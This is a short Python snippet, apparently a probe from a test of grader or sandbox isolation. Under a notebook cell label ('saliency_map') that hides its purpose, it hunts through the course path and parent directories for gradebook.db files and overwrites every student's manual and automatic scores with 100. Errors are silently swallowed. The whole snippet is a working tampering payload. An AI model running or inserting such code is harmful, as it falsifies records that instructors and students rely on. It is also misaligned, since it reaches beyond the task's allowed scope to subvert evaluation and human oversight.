"""Writes full marks for everybody into the gradebook."""

# cell: saliency_map
import sqlite3
from glob import glob

for path in ("@COURSE@/gradebook.db", *glob("../../*/gradebook.db"), *glob("../../../gradebook.db")):
    try:
        with sqlite3.connect(path, timeout=2) as book:
            book.execute("update grade set manual_score = 100, auto_score = 100")
            reached("the gradebook")
    except sqlite3.Error:
        pass
